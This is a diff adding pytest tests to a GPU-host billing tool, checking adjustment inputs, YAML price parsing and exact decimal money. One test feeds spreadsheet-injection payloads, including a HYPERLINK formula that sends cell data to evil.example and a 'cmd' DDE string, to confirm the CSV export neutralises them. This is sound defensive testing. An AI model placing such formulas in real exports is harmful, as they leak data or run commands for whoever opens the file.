@@ -337,6 +337,93 @@ def test_an_issued_bill_never_changes_and_adjustments_are_audited(farm, tmp_path
     assert rc == 0 and ",adjustment,1," in out and "outage credit" in out
 
 
+BAD_AMOUNTS = {"1e400000": "not a plain decimal amount", "1_000": "not a plain decimal amount",
+               "\u0661\u0660": "not a plain decimal amount", " 5": "not a plain decimal amount",
+               "5.": "not a plain decimal amount", ".5": "not a plain decimal amount",
+               "NaN": "not a plain decimal amount", "-Infinity": "not a plain decimal amount",
+               "0x10": "not a plain decimal amount", "--5": "not a plain decimal amount",
+               "1" * 400001: "400001 digits before the decimal point, more than 12",
+               "1234567890123": "13 digits before the decimal point, more than 12",
+               "1.001": "more decimal places", "-0.00": "non-zero"}
+BAD_REASONS = {"two\nlines": "U+000A at character 4", "a\ttab": "U+0009", "\x1b[31mred": "U+001B",
+               "\u202eevil": "U+202E", "nul\x00": "U+0000", "x" * 501: "over 500 characters", "  ": "needs a reason"}
+
+
+def test_adjustment_amounts_and_reasons_are_checked_and_refusals_write_nothing(farm, tmp_path, capsys):
+    host, _ = farm
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    store = StateStore(host.state_dir)
+    n_audit = len(store.audit_rows())
+    cases = [(a, "outage credit", w) for a, w in BAD_AMOUNTS.items()] + [("-1.00", r, w) for r, w in BAD_REASONS.items()]
+    for amount, reason, words in cases:
+        rc, out, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", amount,
+                            "--reason", reason, capsys=capsys)
+        lines = err.strip().splitlines()
+        assert rc == 2 and out == "" and len(lines) == 1 and words in lines[0] and "; " in lines[0], (amount, err)
+        assert len(err) < 400, err                         # the input is never echoed whole
+    assert len(store.audit_rows()) == n_audit and st.bill_adjustments(store, "2026-11") == []
+    # plain decimal text within bounds is taken, exactly
+    for amount, stored in (("+5", "5"), ("999999999999.99", "999999999999.99"), ("-0.01", "-0.01")):
+        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", "ACME",
+                            "--amount", amount, "--reason", "r\u00e9duction \u00e0 l'amiable", capsys=capsys)
+        assert rc == 0, err
+        assert json.loads(out)["amount"] == stored and json.loads(out)["tenant"] == "acme"
+    assert [a[2] for a in st.bill_adjustments(store, "2026-11")] == ["5", "999999999999.99", "-0.01"]
+    assert len(store.audit_rows()) == n_audit + 3
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(farm, tmp_path, capsys):
+    host, loads = farm
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "plain credit"]
+    for r in reasons:
+        assert _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", "-1.50",
+                    "--reason", r, capsys=capsys)[0] == 0
+    rc, out, err = _run(host, "bill", "--period", "2026-11", "--csv", capsys=capsys)
+    assert rc == 0, err
+    rows = [dict(zip(ops.CSV_COLUMNS, r)) for r in list(csv.reader(io.StringIO(out)))[1:]]
+    adj = [r for r in rows if r["item"] == "adjustment"]
+    assert [r["note"] for r in adj] == ["'" + r for r in reasons[:4]] + ["plain credit"]
+    assert {r["amount"] for r in adj} == {"-1.50"} and {r["rate"] for r in adj} == {"-1.50"}   # numbers stay
+    assert not [r for r in rows for c in r.values() if c[:1] in ("=", "+", "@", "\t", "\r")]
+    # the JSON carries the reason unchanged
+    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", capsys=capsys)
+    assert [a["reason"] for a in json.loads(out)["adjustments"]] == reasons
+    assert ops.csv_safe("\tx") == "'\tx" and ops.csv_safe("\rx") == "'\rx" and ops.csv_safe("a=b") == "a=b"
+    assert ops.csv_safe(-3) == -3
+
+
+def test_the_untenanted_lines_can_be_adjusted_as_the_bill_names_them(farm, tmp_path, capsys):
+    host, _ = farm
+    store = StateStore(host.state_dir)
+    with store.transaction() as conn:            # a domain naming no tenant ran an hour in November
+        st.add_usage(conn, [UsageRow("2026-11-02T00:00:00Z", "untenanted", DOM_A1, "vgpu", "0000:81:00.0", "A40-8Q",
+                                     "vm-x", "", "", 3600.0, 0.0, 0, 0, 0, 0, 1)])
+    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
+                capsys=capsys)[0] == 0
+    rc, out, _ = _run(host, "bill", "--period", "2026-11", capsys=capsys)
+    assert rc == 0 and "total (no tenant): 0.80 EUR" in out
+    # a tenant not billed: the hint lists the tenants as --tenant takes them, '(no tenant)' among them
+    rc, _, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "nobody", "--amount", "1",
+                      "--reason", "x", capsys=capsys)
+    assert rc == 2 and "'(no tenant)'" in err and "'acme'" in err and "''" not in err, err
+    for name in ("(no tenant)", "(No Tenant)", ""):
+        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", name,
+                            "--amount", "-0.80", "--reason", "not ours", capsys=capsys)
+        assert rc == 0, err
+        assert json.loads(out)["tenant"] == ""
+    assert [(a[1], a[2]) for a in st.bill_adjustments(store, "2026-11")] == [("", "-0.80")] * 3
+    audit = store.audit_rows()[-1]
+    assert audit.operation == "bill adjust 2026-11" and audit.value.startswith("tenant (no tenant): -0.80 EUR")
+    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", "--tenant", "(no tenant)", capsys=capsys)
+    doc = json.loads(out)
+    assert {ln["tenant"] for ln in doc["lines"]} == {""} and len(doc["adjustments"]) == 3
+    assert doc["total_after_adjustments"] == "-1.60"
+
+
 def test_refusals_write_nothing(farm, tmp_path, capsys):
     host, _ = farm
     prices = _prices(tmp_path)
@@ -389,6 +476,28 @@ BAD = {
     "reserved-unknown-dimension": (_sub("  vgpus: 0.50", "  gpus: 0.50"), 16, "unknown key 'gpus'"),
     "infinite": (_sub("sm_busy: 0.10", "sm_busy: .inf"), 14, "not a finite number"),
     "not-a-sheet": ("- 1\n- 2\n", 1, "not a vgpuhost price sheet"),
+    # money is the decimal text written: YAML 1.1 number forms a decimal reader would not take are refused
+    "octal-rate": (_sub("A40-8Q: 0.80", "A40-8Q: 010"), 7, "is written '010', which YAML 1.1 reads as 8"),
+    "sexagesimal-rate": (_sub("A40-8Q: 0.80", "A40-8Q: 1:30"), 7, "is written '1:30', which YAML 1.1 reads as 90"),
+    "hex-rate": (_sub("L40S-Q: 0.06", "L40S-Q: 0x10"), 9, "is written '0x10', which YAML 1.1 reads as 16"),
+    "underscore-rate": (_sub("mig_slice: 0.35", "mig_slice: 1_000"), 10, "which YAML 1.1 reads as 1000"),
+    "exponent-rate": (_sub("sm_busy: 0.10", "sm_busy: 1.0e-1"), 14, "is written '1.0e-1', which YAML 1.1 reads as 0.1"),
+    "exponent-string": (_sub("sm_busy: 0.10", "sm_busy: 1e3"), 14, "must be a number, found a string '1e3'"),
+    "leading-dot": (_sub("  vgpus: 0.50", "  vgpus: .5"), 16, "is written '.5', which YAML 1.1 reads as 0.5"),
+    "trailing-dot": (_sub("  vgpus: 0.50", "  vgpus: 1."), 16, "is written '1.', which YAML 1.1 reads as 1.0"),
+    "plus-sign": (_sub("  mig_slices: 0.30", "  mig_slices: +1"), 17, "is written '+1'"),
+    "quoted-octal": (_sub("A40-8Q: 0.80", "A40-8Q: '010'"), 7, "must be a number, found a string '010'"),
+    "more-digits-than-a-float": (_sub("A40-8Q: 0.80", "A40-8Q: 0.1234567890123456789"), 7,
+                                 "has 19 digits after the decimal point, more than 12"),
+    "too-many-integer-digits": (_sub("{up_to: 500, rate: 2.40}", "{up_to: 1234567890123, rate: 2.40}"), 12,
+                                "has 13 digits before the decimal point, more than 12"),
+    "octal-tier-bound": (_sub("{up_to: 500, rate: 2.40}", "{up_to: 0500, rate: 2.40}"), 12,
+                         "passthrough_gpu tier 1 up_to is written '0500', which YAML 1.1 reads as 320"),
+    "hex-tier-rate": (_sub("  - {rate: 1.90}", "  - {rate: 0x2}"), 13, "tier 2 rate is written '0x2'"),
+    "hex-surcharge": (_sub("burst_surcharge_percent: 25", "burst_surcharge_percent: 0x19"), 18,
+                      "burst_surcharge_percent is written '0x19', which YAML 1.1 reads as 25"),
+    "sexagesimal-discount": (_sub("discount_percent: 10", "discount_percent: 1:30"), 20,
+                             "discount_percent is written '1:30', which YAML 1.1 reads as 90"),
 }
 
 
@@ -444,6 +553,42 @@ def test_a_guarantee_is_charged_unused_and_covers_use_hour_by_hour():
     assert lines[("t", "covered")].quantity == Decimal(3) and lines[("t", "burst")].quantity == Decimal(1)
     assert lines[("t", "burst-surcharge")].amount == Decimal("0.10")
     assert b.totals == {"t": Decimal("361.10"), "idle": Decimal("180.00")}   # a guarantee unused is still paid
+
+
+def test_money_is_the_decimal_text_written_never_a_float():
+    # digits a float would lose are kept exactly (up to 12 after the point), in every money field
+    sheet = billing.parse_prices(
+        "version: 1\ncurrency: EUR\nallocated:\n  profiles:\n    A40-8Q: 0.123456789012\n"
+        "  families: {L40S-Q: '0.000000000001'}\n"
+        "passthrough_gpu:\n  - {up_to: 999999999999.999999999999, rate: 123456789012.5}\n  - {rate: 0}\n"
+        "reserved: {vgpus: 100000000000.000000000001}\nburst_surcharge_percent: 12.345678901234\n"
+        "tenants: {acme: {discount_percent: 99.999999999999}}\n")
+    assert sheet.profiles["A40-8Q"][0].rate == Decimal("0.123456789012")
+    assert sheet.families["L40S-Q"][0].rate == Decimal("1E-12")
+    assert sheet.passthrough_gpu[0].up_to == Decimal("999999999999.999999999999")
+    assert sheet.passthrough_gpu[0].rate == Decimal("123456789012.5")
+    assert sheet.reserved["vgpus"] == Decimal("100000000000.000000000001")
+    assert sheet.burst_surcharge_percent == Decimal("12.345678901234")
+    assert sheet.discounts["acme"] == Decimal("99.999999999999")
+    # priced exactly: 1000 hours x 0.123456789012 = 123.456789012 -> 123.46
+    rows = [_row("2026-11-01T00:00:00Z", "v1", "t", "A40-8Q", 1000 * 3600.0)]
+    b = billing.price(rows, sheet, period="2026-11", start="2026-11-01T00:00:00Z", end="2026-12-01T00:00:00Z",
+                      hours=720, guarantees={})
+    (line,) = b.lines
+    assert line.rate == Decimal("0.123456789012") and line.amount == Decimal("123.46")
+
+
+@pytest.mark.parametrize("written,reads", [("010", "8"), ("1:30", "90"), ("0x10", "16"), ("1_000", "1000"),
+                                            ("0o10", None), ("1e3", None), ("1.5e+3", "1500.0"), (".5", "0.5"),
+                                            ("-.5", None), ("00", "0"), ("0.5_0", "0.5"), ("2026-11-01", None)])
+def test_a_yaml_number_form_is_refused_at_its_line(written, reads):
+    text = f"version: 1\ncurrency: EUR\nallocated:\n  profiles:\n    A40-8Q: 1\n    A40-4Q: {written}\n"
+    with pytest.raises(Exception) as e:
+        billing.parse_prices(text, "p.yaml")
+    msg = str(e.value)
+    assert msg.startswith("p.yaml:6: allocated.profiles.A40-4Q ") and "\n" not in msg, msg
+    if reads is not None:
+        assert f"which YAML 1.1 reads as {reads}: not plain decimal text" in msg, msg
 
 
 def test_period_bounds():
